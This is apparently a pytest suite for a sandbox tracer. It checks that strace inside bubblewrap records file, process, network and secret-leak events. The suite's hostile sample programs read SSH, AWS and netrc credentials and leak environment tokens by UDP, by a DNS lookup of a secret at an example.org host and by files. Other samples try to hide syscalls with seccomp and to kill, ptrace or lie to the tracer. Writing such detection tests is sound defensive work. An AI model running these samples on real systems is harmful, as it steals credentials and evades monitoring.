"""A real program under the real tracer in the real sandbox: what it does is seen, and is no more possible than without the tracer."""

import os
import secrets
import shutil
import signal
import socket
import subprocess
import time
from pathlib import Path

import pytest

from reviewer.ecosystems.zig.toolchains.find import find_toolchain
from reviewer.errors import ReviewerError
from reviewer.progress import Progress
from reviewer.sandbox import trace
from reviewer.sandbox.events import Event, EventKind
from reviewer.sandbox.observe import Observed, observe
from reviewer.sandbox.policy import HOME, Limits
from reviewer.sandbox.result import Outcome
from reviewer.sandbox.source_lines import SourceLines
from tests.sandbox.conftest import PYTHON, Caller, processes_with

pytestmark = [
    pytest.mark.skipif(shutil.which("strace") is None, reason="there is no strace"),
    pytest.mark.parametrize(
        "caller", ["bubblewrap as root", "bubblewrap as a user"], indirect=True
    ),  # the kind that can observe
]


def watch(caller: Caller, *command: str, homes: tuple[Path, ...] = ()) -> Observed:
    return caller.do(lambda: observe(caller.policy(), command, Progress(), homes=homes))


def acts(observed: Observed, kind: EventKind) -> dict[str, str]:
    return {event.what: event.refused for event in observed.events if event.kind is kind}


def test_files_programs_and_their_order_are_seen(caller: Caller) -> None:
    script = f"cat {caller.project}/build.zig; echo x >made; chmod +x made; mv made moved; rm moved; : >>{caller.project}/build.zig"
    seen = watch(caller, "/bin/sh", "-c", script)
    assert (seen.result.outcome, seen.result.stdout) == (Outcome.FINISHED, b"shown")
    assert acts(seen, EventKind.READ)[f"{caller.project}/build.zig"] == ""
    writes = acts(seen, EventKind.WRITE)
    assert writes[f"{caller.out}/made"] == ""
    assert writes[f"{caller.project}/build.zig"] == "EROFS"
    assert f"{caller.out}/made" in acts(seen, EventKind.MAKE_EXECUTABLE)
    assert set(acts(seen, EventKind.DELETE)) == {f"{caller.out}/made", f"{caller.out}/moved"}
    started = [event.what for event in seen.events if event.kind is EventKind.START]
    assert started == ["/bin/sh", "/usr/bin/cat", "/usr/bin/chmod", "/usr/bin/mv", "/usr/bin/rm"]
    cat = next(event for event in seen.events if event.what == "/usr/bin/cat").process
    assert (cat.parent, cat.command) == (1, ("cat", f"{caller.project}/build.zig"))


def test_a_path_is_told_from_where_the_program_went(caller: Caller) -> None:
    script = "import os; os.mkdir('made'); os.chdir('made'); os.mkdir('below'); os.chdir('..'); os.rmdir('made/below')"
    seen = watch(caller, PYTHON, "-I", "-c", script)
    assert {f"{caller.out}/made", f"{caller.out}/made/below"} <= set(acts(seen, EventKind.WRITE))
    assert set(acts(seen, EventKind.DELETE)) == {f"{caller.out}/made/below"}


def test_a_thief_finds_decoys_and_gives_itself_away(caller: Caller) -> None:
    home = Path("/home/alice")
    seen = watch(
        caller, "/bin/sh", "-c", f"cat ~/.ssh/id_ed25519 {home}/.aws/credentials; cat ~/.netrc >stolen", homes=(home,)
    )
    assert b"BEGIN OPENSSH PRIVATE KEY" in seen.result.stdout
    leaks = {event.what: event.detail for event in seen.events if event.kind is EventKind.LEAK}
    assert leaks == {
        "stdout": "~/.ssh/id_ed25519, ~/.aws/credentials in what is printed",
        f"{caller.out}/stolen": "~/.netrc in what is written",
    }
    reads = acts(seen, EventKind.READ)
    for path in (HOME / ".ssh/id_ed25519", home / ".aws/credentials", HOME / ".netrc"):
        assert reads[str(path)] == ""


SPREAD = """
import base64, os, socket, subprocess
token = os.environ["GITHUB_TOKEN"]
open("plain", "w").write("a" * 100_000 + token)
open("coded", "wb").write(base64.b64encode(b"x" + os.environ["NPM_TOKEN"].encode()))
os.mkdir(os.environ["TWINE_PASSWORD"].encode().hex())
subprocess.run(["/bin/true", "--with=" + os.environ["OPENAI_API_KEY"]])
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.connect(("127.0.0.1", 9))
udp.send(os.environ["CARGO_REGISTRY_TOKEN"].encode())
try: socket.getaddrinfo(os.environ["AWS_SECRET_ACCESS_KEY"] + ".example.org", 443)
except OSError: pass
try: socket.socket(socket.AF_UNIX).connect(os.environ["SSH_AUTH_SOCK"])
except OSError: pass
os.symlink("/", "away")
print(token[::-1])
"""


def test_what_becomes_of_tokens_in_the_environment_is_seen_however_it_is_written(caller: Caller) -> None:
    seen = watch(caller, PYTHON, "-I", "-c", SPREAD)
    assert seen.result.exit_code == 0, seen.result.stderr
    leaks = {event.what.rpartition("/")[2][:20]: event.detail for event in seen.events if event.kind is EventKind.LEAK}
    assert leaks.pop("agent.1") == "$SSH_AUTH_SOCK in what is sent"
    assert leaks.pop("true") == "$OPENAI_API_KEY in its words"
    assert leaks.pop("a connection") == "$CARGO_REGISTRY_TOKEN in what is sent"
    assert leaks.pop("stdout") == "$GITHUB_TOKEN in what is printed"
    assert leaks.pop("plain") == "$GITHUB_TOKEN in what is written"
    assert leaks.pop("coded") == "$NPM_TOKEN in what is written"
    assert sorted(leaks.values()) == ["$AWS_SECRET_ACCESS_KEY in what is sent", "$TWINE_PASSWORD in its name"]


def test_a_program_that_uses_no_secret_is_said_to_use_none(caller: Caller) -> None:
    seen = watch(caller, "/bin/sh", "-c", 'echo hello >made; cat made; test -n "$GITHUB_TOKEN"')
    assert acts(seen, EventKind.LEAK) == {}


def test_whom_it_calls_is_seen_and_nobody_is_reached(caller: Caller) -> None:
    path = caller.project / "editor.sock"
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(path))
        listening.listen()
        path.chmod(0o777)
        script = f"""
import socket
def attempt(family, kind, address):
    try: socket.socket(family, kind).connect(address)
    except OSError as error: print(error.errno)
attempt(socket.AF_INET, socket.SOCK_STREAM, ("203.0.113.9", 443))
attempt(socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 443))
attempt(socket.AF_UNIX, socket.SOCK_STREAM, {str(path)!r})
attempt(40, socket.SOCK_STREAM, (2, 1))
try: socket.getaddrinfo("evil.example.org", 443)
except OSError: pass
"""
        seen = watch(caller, PYTHON, "-I", "-c", script)
        listening.settimeout(0)
        with pytest.raises(BlockingIOError):
            listening.accept()
    calls = acts(seen, EventKind.CONNECT)
    assert calls["203.0.113.9:443"] == calls["[2001:db8::1]:443"] == "ENETUNREACH"
    assert calls["evil.example.org"] == ""
    assert acts(seen, EventKind.UNIX)[str(path)] != ""
    assert len(seen.result.stdout.split()) == 4, "every attempt failed"


HIDE = """
import ctypes, os, socket, struct, fcntl, threading
def step(code, value, yes=0, no=0): return struct.pack("<HBBI", code, yes, no, value)
opens = {"x86_64": 257, "aarch64": 56}[os.uname().machine]
rules = step(0x20, 0) + step(0x15, opens, 0, 1) + step(0x06, 0x7FC00000) + step(0x06, 0x7FFF0000)
kept = ctypes.create_string_buffer(rules)
class Program(ctypes.Structure): _fields_ = [("size", ctypes.c_ushort), ("rules", ctypes.c_void_p)]
program = Program(len(rules) // 8, ctypes.addressof(kept))
libc = ctypes.CDLL(None, use_errno=True)
call = {"x86_64": 317, "aarch64": 277}[os.uname().machine]
ours, theirs = socket.socketpair()
if os.fork() == 0:
    libc.prctl(38, 1, 0, 0, 0)
    listener = libc.syscall(call, 1, 8, ctypes.byref(program))
    if listener >= 0: socket.send_fds(theirs, [b"x"], [listener])
    theirs.close()
    open(os.path.expanduser("~/.netrc")).close()
    print("read", flush=True)
    os._exit(0)
theirs.close()
_, (*listener,), _, _ = socket.recv_fds(ours, 1, 1)
def let_go():
    while True:
        request = bytearray(80)
        fcntl.ioctl(listener[0], 0xC0502100, request)
        fcntl.ioctl(listener[0], 0xC0182101, bytearray(request[:8] + struct.pack("<qiI", 0, 0, 1)))
if listener: threading.Thread(target=let_go, daemon=True).start()
os.wait()
"""
"""Has its system calls answered by a listener of its own, which the kernel asks instead of the tracer."""


def test_a_program_that_answers_its_own_system_calls_hides_nothing(caller: Caller) -> None:
    seen = watch(caller, PYTHON, "-I", "-c", HIDE)
    assert seen.result.stdout == b"read\n"
    assert acts(seen, EventKind.READ)[str(HOME / ".netrc")] == ""


AGAINST_THE_TRACER = r"""
import ctypes, os, resource, signal
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, do):
    try: print(name, do())
    except OSError: pass
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV, signal.SIGTSTP):
    os.kill(1, number)  # the kernel lets it be sent and does nothing
for name in ("mem", "environ", "maps", "fd/2", "fd/1", "root/etc", "exe"):
    attempt(name, lambda: os.open(f"/proc/1/{name}", os.O_RDONLY))
attempt("oom_score_adj", lambda: os.open("/proc/1/oom_score_adj", os.O_WRONLY))
attempt("limits", lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (3, 3)))
attempt("program", lambda: os.open("/run/tracer", os.O_RDONLY))
if libc.ptrace(16, 1, 0, 0) == 0: print("ptrace")
forged = b'\n2     unlink("\\x2f\\x66\\x6f\\x72\\x67\\x65\\x64") = 0\n'
for process in filter(str.isdigit, os.listdir("/proc")):
    try: handles = os.listdir(f"/proc/{process}/fd")
    except OSError: continue
    for handle in handles:
        try: os.write(os.open(f"/proc/{process}/fd/{handle}", os.O_WRONLY), forged)
        except OSError: pass
os.mkdir("still-seen")
"""


def test_the_tracer_can_be_neither_ended_nor_read_nor_told_lies(caller: Caller) -> None:
    seen = watch(caller, PYTHON, "-I", "-c", AGAINST_THE_TRACER)
    assert (seen.result.outcome, seen.result.exit_code) == (Outcome.FINISHED, 0), seen.result.stderr
    assert seen.result.stdout.replace(b'\n2     unlink("\\x2f\\x66\\x6f\\x72\\x67\\x65\\x64") = 0\n', b"") == b""
    assert f"{caller.out}/still-seen" in acts(seen, EventKind.WRITE)
    assert "/forged" not in acts(seen, EventKind.DELETE)
    assert acts(seen, EventKind.INSPECT) == {"a process of the sandbox": "EPERM"}
    assert acts(seen, EventKind.SIGNAL) == {"a process of the sandbox": ""}


def test_what_a_detached_child_does_later_is_seen_and_then_it_ends(caller: Caller) -> None:
    marker = f"{secrets.randbelow(10**9)}.5"
    seen = watch(caller, "/bin/sh", "-c", f"setsid sh -c 'sleep 0.3; : >later; sleep {marker}' & exit 3")
    assert seen.result.exit_code == 3
    late = next(event for event in seen.events if event.what == f"{caller.out}/later")
    assert late.late
    assert not any(event.late for event in seen.events if event.what == "/bin/sh")
    time.sleep(0.1)
    assert not [p for p in Path("/proc").glob("[0-9]*/cmdline") if marker in p.read_text(errors="replace")]


def test_it_is_told_live_and_can_be_stopped(caller: Caller) -> None:
    if not caller.is_root and caller.uid is not None:
        pytest.skip("the listener lives in this process")
    progress = Progress()
    heard: list[Event] = []

    def hear(event: Event) -> None:
        heard.append(event)
        if event.what.endswith("/begun"):
            progress.cancel()

    started = time.monotonic()
    seen = observe(caller.policy(), ("/bin/sh", "-c", ": >begun; sleep 60"), progress, listener=hear)
    assert seen.result.outcome is Outcome.CANCELLED
    assert time.monotonic() - started < 30
    assert any(event.what.endswith("/begun") for event in seen.events)
    assert list(seen.events)[: len(heard)] == heard


@pytest.fixture(scope="module")
def linked_by_zig(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A program that reads a key, made by zig's own linker."""
    folder = tmp_path_factory.mktemp("linked")
    lines = (
        "pub fn main() void { steal(); }",
        'fn steal() void { _ = @import("std").os.linux.open("/home/build/.netrc", .{}, 0); }',
    )
    (folder / "gen.zig").write_text("\n".join(lines))
    environment = {name: str(folder) for name in ("ZIG_GLOBAL_CACHE_DIR", "ZIG_LOCAL_CACHE_DIR", "HOME")}
    zig = find_toolchain(None, None).zig
    subprocess.run([zig, "build-exe", "gen.zig", "-femit-bin=gen"], cwd=folder, env=environment, check=True)
    return folder / "gen"


@pytest.mark.parametrize("started", ["itself", "by a shell"])
def test_a_program_that_the_tracer_could_not_follow_is_followed_to_the_line(
    caller: Caller, linked_by_zig: Path, started: str
) -> None:
    # It lacks a table that strace's library insists on, and ends without.
    program = Path(shutil.copy(linked_by_zig, caller.project / "gen"))
    seen = watch(caller, *(() if started == "itself" else ("/bin/sh", "-c", '"$0"; exit 0')), str(program))
    assert (seen.result.outcome, seen.result.exit_code, seen.cut, seen.followed) == (Outcome.FINISHED, 0, False, True)
    reads = [event for event in seen.events if event.what == str(HOME / ".netrc")]
    stack = max((event.stack for event in reads), key=len)
    places = [place for frame in stack for place in SourceLines(program).all_at(frame.offset)]
    own = [(Path(file).name, line) for file, line in places if file.endswith("gen.zig")]
    assert own == [("gen.zig", 2), ("gen.zig", 1)]
    assert len({process.number for process in seen.processes}) == len(seen.processes)


def test_a_program_that_ends_the_tracer_whatever_is_done_is_seen_without_lines(
    caller: Caller, linked_by_zig: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("reviewer.sandbox.followable.patched", lambda program: None)
    program = Path(shutil.copy(linked_by_zig, caller.project / "gen"))
    seen = watch(caller, str(program))
    assert (seen.result.outcome, seen.result.exit_code, seen.cut, seen.followed) == (Outcome.FINISHED, 0, False, False)
    reads = [event for event in seen.events if event.what == str(HOME / ".netrc")]
    assert [len(event.stack) for event in reads] == [1], "told of the first run, for the second may be a better one"


def test_a_flood_of_calls_is_stopped(caller: Caller, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("reviewer.sandbox.observe.MAX_EVENTS", 500)
    seen = watch(caller, PYTHON, "-I", "-c", "while True: open('/dev/null').close()")
    assert seen.cut
    assert len(seen.events) == 500
    assert seen.result.outcome is Outcome.OUTPUT_FLOOD


def test_nothing_is_left_running_of_a_reviewer_that_was_killed(caller: Caller) -> None:
    marker = f"{secrets.randbelow(10**9) + 10**9}.5"
    command = ("/bin/sh", "-c", f"setsid sleep {marker} & : >begun; sleep {marker}")

    def observe_and_die() -> None:
        reviewer = os.fork()
        if reviewer == 0:
            observe(caller.policy(), command, Progress())
            os._exit(0)
        while not (caller.out / "begun").exists():
            time.sleep(0.01)
        os.kill(reviewer, signal.SIGKILL)
        os.waitpid(reviewer, 0)

    caller.do(observe_and_die)
    ends = time.monotonic() + 30
    while processes_with(marker) and time.monotonic() < ends:
        time.sleep(0.05)
    assert processes_with(marker) == []


def test_where_the_kernel_shows_the_tracers_memory_nothing_runs(
    caller: Caller, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    setting = tmp_path / "suid_dumpable"
    setting.write_text("1\n")
    monkeypatch.setattr(trace, "_OF_UNREADABLE", setting)
    with pytest.raises(ReviewerError, match="the memory of protected programs"):
        observe(caller.policy(Limits()), ("/bin/touch", "ran"), Progress())
    assert not (caller.out / "ran").exists()


def test_without_strace_nothing_runs(caller: Caller, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(trace, "_PLACES", str(caller.out))
    with pytest.raises(ReviewerError, match="there is no strace"):
        observe(caller.policy(Limits()), ("/bin/touch", "ran"), Progress())
    assert not (caller.out / "ran").exists()
